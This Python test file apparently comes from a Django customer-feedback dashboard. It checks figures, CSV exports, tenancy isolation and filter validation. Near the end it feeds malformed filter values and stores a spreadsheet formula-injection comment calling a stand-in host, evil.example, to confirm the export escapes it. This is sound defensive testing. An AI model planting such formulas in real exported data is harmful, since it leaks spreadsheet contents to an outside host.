"""The service page: figures equal compute()'s, trends, breakdowns, tickets beside experience, comments,
benchmarks, chart links, CSV exports, filters, tenancy, empty states and a bounded number of queries."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from serviceloop.accounts.models import Organisation, User
from serviceloop.accounts.testing import make_organisation
from serviceloop.experience.api import compute
from serviceloop.experience.queries import BREAKDOWN, HEADLINE, TRENDS
from serviceloop.experience.rollups import rollups_rebuild
from serviceloop.experience.tally import Scope
from serviceloop.experience.tests.factories import make_person, make_service, respond
from serviceloop.experience.tests.page_data import NOW, SINCE, UNTIL, World, seed

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(settings: Any, travel: Any, sam: User, org_a: Organisation, org_b: Organisation) -> World:
    settings.SERVICELOOP_MIN_SAMPLE = 3
    travel.to(NOW)
    return seed(sam, org_a, org_b)


def client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def url(world: World, **params: str) -> str:
    base = reverse("experience:service", args=[world.payroll.public_id])
    return base + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.content[:500]
    assert answer["Content-Type"].startswith("text/csv")
    text = b"".join(answer.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_headline_figures_are_compute_s_for_the_same_scope(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world))
    assert answer.status_code == 200
    ((_key, expected),) = compute(Scope(service_ids=(world.payroll.pk,), since=SINCE, until=UNTIL), [], list(HEADLINE))
    shown = answer.context["figures"]
    assert [shown[figure.metric] for figure in expected] == expected
    # By hand: A's 4 promoters and 1 detractor, B's 3 detractors → (4 − 4) / 8 = 0; CSAT 4 of 5 = 80%.
    assert (shown["happiness"].value, shown["happiness"].n) == (0.0, 8)
    assert (shown["csat"].value, shown["csat"].n, shown["csat"].interval) == (80.0, 5, (37.6, 96.4))
    html = answer.content.decode()
    assert 'name="from" value="2026-05-03"' in html and 'name="to" value="2026-07-31"' in html  # the period
    assert '<div class="card" data-metric="csat">' in html and "80.0%" in html
    assert "95% [37.6, 96.4]" in html
    # NPS was never asked: not enough data, with its n.
    assert not shown["nps"].enough
    card = html.split('data-metric="nps"')[1].split("</div>\n  </div>")[0]
    assert "not enough data" in card and "n 0" in card


def test_trend_by_month_is_compute_s_and_shows_every_month_of_the_period(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world, grouping="month"))
    assert answer.status_code == 200
    scope = Scope(service_ids=(world.payroll.pk,), since=SINCE, until=UNTIL)
    expected = {key["month"]: figures for key, figures in compute(scope, ["month"], list(TRENDS))}
    trend = answer.context["trend"]
    assert [row.key["month"] for row in trend.rows] == ["2026-05-01", "2026-06-01", "2026-07-01"]
    for row in trend.rows:
        if row.key["month"] in expected:
            assert row.figures == expected[row.key["month"]]
        else:
            assert all(figure.n == 0 and figure.value is None for figure in row.figures)  # May: a gap
    june = dict(zip(trend.metrics, trend.rows[1].figures, strict=True))
    assert (june["happiness"].value, june["happiness"].n) == (60.0, 5)


def test_weekly_trend_charts_link_each_point_to_its_rows(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world))
    charts = dict(answer.context["trend_charts"])
    html = charts["happiness"].__html__()
    stream = reverse("feedback:service_stream", args=[world.payroll.public_id])
    # The week of Monday 1 June: the feedback stream of Payroll from 1 to 7 June.
    assert f'href="{stream}?since=2026-06-01&amp;until=2026-06-07#responses"' in html
    answer = client_for(sam).get(f"{stream}?since=2026-06-01&until=2026-06-07")
    assert answer.status_code == 200
    shown = {row[0].public_id for row in answer.context["rows"]}
    expected = {r.public_id for r in world.responses if date(2026, 6, 1) <= r.responded_at.date() <= date(2026, 6, 7)}
    assert shown == expected and len(shown) == 2


def test_benchmark_lines_are_labelled_with_their_source(world: World, sam: User) -> None:
    charts = dict(client_for(sam).get(url(world)).context["trend_charts"])
    happiness, lost = charts["happiness"].__html__(), charts["lost_time_mean"].__html__()
    assert "HappySignals IT benchmark, Q4 2019: incidents +67" in happiness
    assert "HappySignals IT benchmark, Q4 2019: requests +76" in happiness
    assert "HappySignals IT benchmark, Q4 2019: incidents 3 h 1 min" in lost
    assert "requests 2 h 32 min" in lost
    # Narrowed to requests, only the requests' line is drawn.
    charts = dict(client_for(sam).get(url(world, ticket_type="request")).context["trend_charts"])
    assert "requests +76" in charts["happiness"].__html__()
    assert "incidents +67" not in charts["happiness"].__html__()


def test_breakdowns_by_organisation_offering_and_channel_are_compute_s(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world))
    scope = Scope(service_ids=(world.payroll.pk,), since=SINCE, until=UNTIL)
    tables = {table.name: table for table, _chart in answer.context["breakdowns"]}
    assert set(tables) == {"organisation", "offering", "channel"}
    for name, table in tables.items():
        expected = {key[name]: figures for key, figures in compute(scope, [name], list(BREAKDOWN))}
        assert {row.key[name]: row.figures for row in table.rows} == expected
    assert [row.labels[0] for row in tables["organisation"].rows] == ["Acme Logistics", "Borealis Health"]
    assert [row.labels[0] for row in tables["channel"].rows] == ["email", "portal"]


def test_tickets_beside_experience_by_priority_reassignments_and_fcr(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world))
    tables = {table.name: table for table, _chart in answer.context["tickets"]}
    shown = {
        name: [(row.labels[0], row.figures[0].value, row.figures[0].n) for row in table.rows]
        for name, table in tables.items()
    }
    # 4 promoters on P1 tickets resolved at the first contact, never reassigned; 1 detractor on a P3
    # ticket reassigned 4 times, not FCR (n 1 < 3: not enough data). B's answers have no ticket.
    assert shown["priority"] == [("P1 critical", 100.0, 4), ("P3 medium", None, 1)]
    assert shown["reassignments"] == [("0", 100.0, 4), ("3+", None, 1)]
    assert shown["fcr"] == [("Yes", 100.0, 4), ("No", None, 1)]


def test_a_new_ticket_within_7_days_takes_the_fcr_away(world: World, sam: User) -> None:
    from serviceloop.desk.models import Ticket
    from serviceloop.experience.tests.factories import ticket

    first = world.responses[0].ticket
    assert first is not None
    Ticket.objects.filter(pk=first.pk).update(resolved_at=NOW.replace(month=6, day=1))
    ticket(world.payroll, first.requester, opened_at=NOW.replace(month=6, day=3))
    tables = {t.name: t for t, _c in client_for(sam).get(url(world)).context["tickets"]}
    assert [(row.labels[0], row.figures[0].n) for row in tables["fcr"].rows] == [("Yes", 3), ("No", 2)]


def test_comments_newest_first_filtered_by_sentiment_and_paged(world: World, sam: User, settings: Any) -> None:
    settings.SERVICELOOP_PAGE_SIZE = 3
    client = client_for(sam)
    page = client.get(url(world)).context["page_obj"]
    assert page.paginator.count == 8  # the answer of April is outside the period; Rides is another service
    assert [r.responded_at for r in page] == sorted((r.responded_at for r in page), reverse=True)
    assert page[0].comment.startswith("Borealis")
    positive = client.get(url(world, sentiment="positive")).context["page_obj"]
    assert positive.paginator.count == 4 and {r.sentiment_label for r in positive} == {"positive"}
    second = client.get(url(world, page="2")).content.decode()
    assert "Page 2 of 3" in second


def test_a_customer_sees_their_own_organisation_only(world: World, bob: User, org_a: Organisation) -> None:
    client = client_for(bob)
    answer = client.get(url(world))
    assert answer.status_code == 200
    ((_key, expected),) = compute(
        Scope(service_ids=(world.payroll.pk,), organisation_ids=(bob.organisation_id,), since=SINCE, until=UNTIL),
        [],
        list(HEADLINE),
    )
    assert [answer.context["figures"][f.metric] for f in expected] == expected
    assert answer.context["figures"]["happiness"].n == 3
    html = answer.content.decode()
    assert "Borealis secret" in html and "Acme secret" not in html and "Acme Logistics" not in html
    assert "organisation" not in answer.context["form"].fields  # no choice of organisation
    # Another organisation named on the page, on its export, or its page: as if it did not exist.
    assert client.get(url(world, organisation=org_a.public_id)).status_code == 404
    assert client.get(url(world, organisation=org_a.public_id, export="comments")).status_code == 404
    assert client.get(reverse("experience:organisation", args=[org_a.public_id])).status_code == 404
    # A service B does not consume (Rides): 404; and B's exports hold B's rows only.
    assert client.get(reverse("experience:service", args=[world.rides.public_id])).status_code == 404
    comments = rows_of(client.get(url(world, export="comments")))
    assert len(comments) == 3 and all("Borealis" in row["comment"] for row in comments)
    assert "organisation" not in comments[0]
    channels = rows_of(client.get(url(world, export="channel")))
    assert {row["channel"] for row in channels} == {"portal"}


def test_a_customer_s_chart_links_stay_on_their_page(world: World, carol: User) -> None:
    charts = dict(client_for(carol).get(url(world)).context["trend_charts"])
    html = charts["happiness"].__html__()
    assert reverse("feedback:service_stream", args=[world.payroll.public_id]) not in html
    assert f'href="{url(world)}?from=2026-06-01&amp;to=2026-06-07&amp;grouping=week#comments"' in html


def test_every_table_exports_as_csv_with_the_page_s_figures(world: World, sam: User) -> None:
    client = client_for(sam)
    scope = Scope(service_ids=(world.payroll.pk,), since=SINCE, until=UNTIL)
    headline = rows_of(client.get(url(world, export="headline")))
    ((_key, expected),) = compute(scope, [], list(HEADLINE))
    assert [row["metric"] for row in headline] == list(HEADLINE)
    assert [(row["value"], row["n"]) for row in headline] == [
        ("" if f.value is None else str(f.value), str(f.n)) for f in expected
    ]
    organisations = rows_of(client.get(url(world, export="organisation")))
    happiness = {row["Organisation"]: row for row in organisations if row["metric"] == "happiness"}
    assert happiness["Acme Logistics"]["value"] == "60.0" and happiness["Acme Logistics"]["organisation"]
    assert happiness["Borealis Health"]["interval_low"] == "-100.0"
    for name in ("trend", "drivers", "sentiment", "offering", "priority", "reassignments", "fcr"):
        assert rows_of(client.get(url(world, export=name))), name
    assert len(rows_of(client.get(url(world, export="comments")))) == 8
    # Same filters: only July's rows.
    july = rows_of(client.get(url(world, export="comments", **{"from": "2026-07-01"})))
    assert len(july) == 3
    bad = client.get(url(world, export="trend", **{"from": "2026-07-10", "to": "2026-07-01"}))
    assert bad.status_code == 400 and b"to: The last day is before the first day." in bad.content
    refused = client.get(url(world, export="everything"))
    assert refused.status_code == 400 and b"export: no table 'everything'" in refused.content


def test_filters_narrow_every_figure(world: World, sam: User) -> None:
    client = client_for(sam)
    answer = client.get(url(world, channel="portal"))
    assert answer.context["figures"]["happiness"].n == 3
    answer = client.get(url(world, offering=world.payslips.public_id))
    assert answer.context["figures"]["happiness"].n == 5
    answer = client.get(url(world, **{"from": "2026-06-08", "to": "2026-06-10"}))
    assert answer.context["figures"]["happiness"].n == 3
    answer = client.get(url(world, ticket_type="none"))
    assert answer.context["figures"]["happiness"].n == 3  # B's answers came without a ticket
    answer = client.get(url(world, organisation=world.org_b.public_id))
    assert answer.context["figures"]["happiness"].n == 3


def test_bad_filters_answer_400_with_the_message_by_the_field(world: World, sam: User) -> None:
    client = client_for(sam)
    answer = client.get(url(world, **{"from": "2026-07-10", "to": "2026-07-01"}))
    assert answer.status_code == 400 and "The last day is before the first day." in answer.content.decode()
    answer = client.get(url(world, organisation="nosuchorg"))
    assert answer.status_code == 400 and "Select a valid choice" in answer.content.decode()
    answer = client.get(url(world, **{"from": "2020-01-01", "to": "2026-07-01"}))
    assert answer.status_code == 400 and "narrow the period" in answer.content.decode()
    answer = client.get(url(world, grouping="day"))
    assert answer.status_code == 400


def test_no_responses_yet_and_not_enough_data(settings: Any, travel: Any, sam: User) -> None:
    travel.to(NOW)
    service = make_service("Brand new", manager=sam)
    answer = client_for(sam).get(reverse("experience:service", args=[service.public_id]))
    assert answer.status_code == 200
    html = answer.content.decode()
    assert "No responses in this period yet" in html and "No comments in this period yet." in html
    assert all(
        not figure.enough
        for name, figure in answer.context["figures"].items()
        if name not in ("suppressed", "sla_paused")
    )
    # Answers below the minimum sample (30 by default here): "not enough data", with n.
    settings.SERVICELOOP_MIN_SAMPLE = 30
    for day in range(1, 6):
        respond(service, f"2026-07-0{day} 10:00", happiness=10)
    rollups_rebuild()
    answer = client_for(sam).get(reverse("experience:service", args=[service.public_id]))
    happiness = answer.context["figures"]["happiness"]
    assert (happiness.value, happiness.n) == (None, 5)
    card = answer.content.decode().split('data-metric="happiness"')[1][:400]
    assert "not enough data" in card and "n 5" in card


def _many_organisations(world: World, count: int) -> None:
    for number in range(count):
        organisation = make_organisation(f"Org {number}", domain=f"org{number}.example")
        person = make_person(organisation, f"p{number}@org{number}.example")
        for day in ("05", "12"):
            respond(world.payroll, f"2026-06-{day} 10:00", organisation=organisation, person=person, happiness=7)
    rollups_rebuild()


def test_the_number_of_queries_does_not_grow_with_the_data(world: World, sam: User) -> None:
    client = client_for(sam)
    client.get(url(world))  # warm the session and content types
    with CaptureQueriesContext(connection) as few:
        assert client.get(url(world)).status_code == 200
    _many_organisations(world, 12)
    with CaptureQueriesContext(connection) as many:
        assert client.get(url(world)).status_code == 200
    assert len(many) == len(few), [q["sql"][:120] for q in many.captured_queries]


def test_the_page_reads_a_bounded_number_of_queries(
    world: World, sam: User, django_assert_max_num_queries: Any
) -> None:
    client = client_for(sam)
    client.get(url(world))
    with django_assert_max_num_queries(60):
        client.get(url(world))
    with django_assert_max_num_queries(20):
        client.get(url(world, export="organisation"))


def test_the_service_page_links_to_the_experience_page(world: World, sam: User) -> None:
    html = client_for(sam).get(reverse("catalogue:service_detail", args=[world.payroll.public_id])).content.decode()
    assert f'href="{reverse("experience:service", args=[world.payroll.public_id])}"' in html


def test_the_stream_link_keeps_the_organisation_and_offering(world: World, sam: User) -> None:
    answer = client_for(sam).get(url(world, organisation=world.org_a.public_id, offering=world.payslips.public_id))
    link = urlparse(answer.context["rows_url"])
    assert link.path == reverse("feedback:service_stream", args=[world.payroll.public_id])
    query = parse_qs(link.query)
    assert query["organisation"] == [world.org_a.public_id] and query["offering"] == [world.payslips.public_id]
    stream = client_for(sam).get(answer.context["rows_url"])
    assert stream.status_code == 200
    assert {row[0].organisation_id for row in stream.context["rows"]} == {world.org_a.pk}
    assert len(stream.context["rows"]) == 5


@pytest.mark.parametrize(
    "query",
    [
        "from=2026-13-45",
        "from=99999-01-01",
        "to=1900-01-01",
        "organisation=%00",
        "offering=a%00b",
        "channel=%00",
        "sentiment=%00",
        "grouping=%00",
        "ticket_type=nope",
        "page=abc",
        "page=999999",
        "export=%00",
    ],
)
def test_hostile_filters_answer_4xx_or_the_page_never_500(world: World, sam: User, bob: User, query: str) -> None:
    for user in (sam, bob):
        answer = client_for(user).get(f"{url(world)}?{query}")
        assert answer.status_code in (200, 400, 404), (user, query, answer.status_code)


def test_a_comment_that_starts_like_a_formula_is_exported_as_text(world: World, sam: User) -> None:
    from serviceloop.feedback.models import Response

    respond(
        world.payroll,
        "2026-06-20 10:00",
        happiness=2,
        comment='=HYPERLINK("http://evil.example/?"&A1,"open")',
        sentiment_label="negative",
    )
    rollups_rebuild()
    assert Response.objects.filter(comment__startswith="=HYPERLINK").exists()
    comments = rows_of(client_for(sam).get(url(world, export="comments")))
    exported = [row["comment"] for row in comments if "HYPERLINK" in row["comment"]]
    assert exported == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")']
